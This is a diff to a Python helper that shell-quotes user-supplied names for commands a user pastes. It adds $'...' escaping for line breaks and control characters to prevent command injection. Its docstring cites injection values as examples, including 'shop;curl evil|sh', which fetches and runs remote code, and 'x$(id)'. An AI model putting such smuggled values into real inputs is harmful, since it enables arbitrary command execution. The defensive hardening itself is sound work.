@@ -147,4 +147,17 @@ def shell_word(text: str) -> str:
     """`text` as one shell word, for a command a user pastes: names come from the input, and a
     namespace `shop;curl evil|sh` or a secret `x$(id)` must stay a (refused) name, never run
     (CWE-78). A valid Kubernetes name, registry or key is printed as it is."""
-    return shlex.quote(text)
+    if _UNSAFE_LINE.search(text) is None:
+        return shlex.quote(text)
+    # a line break or control character: bash's $'...' spells it as an escape, so the command stays
+    # on one line as printed and means the same name when pasted
+    return "$'" + "".join(_ansi_c(character) for character in text) + "'"
+
+
+def _ansi_c(character: str) -> str:
+    if character in "\\'":
+        return "\\" + character
+    if _UNSAFE_LINE.match(character) is None:
+        return character
+    code = ord(character)
+    return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"
